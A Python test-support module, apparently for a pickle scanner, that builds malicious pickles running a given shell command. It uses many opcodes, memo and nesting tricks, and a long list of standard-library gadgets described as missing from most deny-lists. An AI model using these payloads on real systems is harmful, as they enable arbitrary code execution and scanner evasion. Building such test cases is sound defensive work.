"""Known attacks by pickle, each a function from a shell command to a pickle that would run it.

From Python's documentation of pickle, fickling's and picklescan's lists of what they missed, and the gadgets of the
standard library that run text: callables that are on few deny-lists.
"""

from __future__ import annotations

from collections.abc import Callable

from reference_tests.support import torch_files as torch


def os_system(command: str) -> bytes:
    return torch.pickled(torch.name("os", "system"), torch.tuple_of(torch.text(command)), b"R")


def posix_system(command: str) -> bytes:
    return torch.pickled(torch.name("posix", "system"), torch.tuple_of(torch.text(command)), b"R")


def builtins_exec(command: str) -> bytes:
    code = torch.text(f"import os; os.system({command!r})")
    return torch.pickled(torch.name("builtins", "exec"), torch.tuple_of(code), b"R")


def inst(command: str) -> bytes:
    return b"(" + b"S" + repr(command).encode() + b"\n" + b"ios\nsystem\n."


def obj(command: str) -> bytes:
    return torch.pickled(b"(", torch.name("os", "system"), torch.text(command), b"o")


def newobj(command: str) -> bytes:
    return torch.pickled(
        torch.name("subprocess", "Popen"),
        torch.tuple_of(torch.tuple_of(*map(torch.text, ["sh", "-c", command]))),
        b"\x81",
    )


def newobj_ex(command: str) -> bytes:
    arguments = torch.tuple_of(torch.tuple_of(*map(torch.text, ["sh", "-c", command])))
    return b"\x80\x04" + torch.name("subprocess", "Popen") + arguments + b"}" + b"\x92."


def stack_global(command: str) -> bytes:
    return b"\x80\x04" + torch.text("os") + torch.text("system") + b"\x93" + torch.tuple_of(torch.text(command)) + b"R."


def through_memo(command: str) -> bytes:
    """The callable is put away under one number and taken out after other opcodes."""
    call = torch.name("os", "system") + b"q\x05" + b"0" + b"h\x05" + torch.tuple_of(torch.text(command)) + b"R"
    return torch.pickled(call)


def by_build(command: str) -> bytes:
    """BUILD calls __setstate__, here of a partial object that calls what it is given."""
    state = torch.tuple_of(torch.name("os", "system"), torch.tuple_of(torch.text(command)), b"}", b"N")
    made = torch.name("functools", "partial") + torch.tuple_of(torch.name("os", "getpid")) + b"R" + state + b"b"
    return torch.pickled(made, b")R")


def nested(command: str) -> bytes:
    """A pickle in a pickle, by a loader that deny-lists forget."""
    inner = os_system(command)
    return torch.pickled(
        torch.name("_pickle", "loads"),
        b"("
        + torch.name("_codecs", "encode")
        + torch.tuple_of(torch.text(inner.decode("latin1")), torch.text("latin1")),
        b"R",
        b"tR",
    )


def second_behind_the_first(command: str) -> bytes:
    """Legacy files are several pickles in a row: each is read by the same rules."""
    return torch.pickled(torch.whole(torch.MAGIC)) + os_system(command)


def gadget(module: str, attribute: str, argument: str = "command") -> Callable[[str], bytes]:
    """A callable of the standard library that runs text or a command, and is on few deny-lists."""

    def make(command: str) -> bytes:
        code = f"__import__('os').system({command!r})"
        text = command if argument == "command" else code
        return torch.pickled(torch.name(module, attribute), torch.tuple_of(torch.text(text)), b"R")

    make.__name__ = f"{module}.{attribute}"
    return make


def by_attribute(command: str) -> bytes:
    """A name with a dot: protocol 4 walks attributes, so an allowed module would lead to any other."""
    torch_utils = torch.text("collections") + torch.text("OrderedDict.__init__.__globals__")
    return b"\x80\x04" + torch_utils + b"\x93" + torch.tuple_of(torch.text(command)) + b"R."


CALLS = [
    *(
        os_system,
        posix_system,
        builtins_exec,
        inst,
        obj,
        newobj,
        newobj_ex,
        stack_global,
        through_memo,
        by_build,
        nested,
    ),
    gadget("builtins", "eval", "code"),
    gadget("subprocess", "getoutput"),
    gadget("subprocess", "call", "command"),
    gadget("timeit", "timeit", "code"),
    gadget("code", "InteractiveInterpreter"),
    gadget("pdb", "run", "code"),
    gadget("cProfile", "run", "code"),
    gadget("profile", "run", "code"),
    gadget("trace", "Trace"),
    gadget("bdb", "Bdb"),
    gadget("webbrowser", "open"),
    gadget("shutil", "rmtree"),
    gadget("asyncio", "create_subprocess_shell"),
    gadget("importlib", "import_module"),
    gadget("runpy", "run_path"),
    gadget("pty", "spawn"),
    gadget("platform", "popen"),
    gadget("ctypes", "CDLL"),
    gadget("torch.hub", "load"),
    gadget("torch", "load"),
    gadget("torch.serialization", "load"),
    gadget("torch.storage", "_load_from_bytes"),
    gadget("torch._utils", "_rebuild_tensor_v3"),
    gadget("numpy", "load"),
    gadget("numpy.testing._private.utils", "runstring", "code"),
    gadget("pip._internal.cli.main", "main"),
    gadget("operator", "attrgetter"),
    gadget("builtins", "getattr"),
    gadget("builtins", "__import__"),
    gadget("collections", "namedtuple"),
    gadget("npblender.demo", "folder"),
]

RUNS_HERE = [os_system, posix_system, builtins_exec, inst, obj, stack_global, through_memo, by_build, nested]
"""Those that run in a plain interpreter, whose unpickler shows that they are no straw men."""
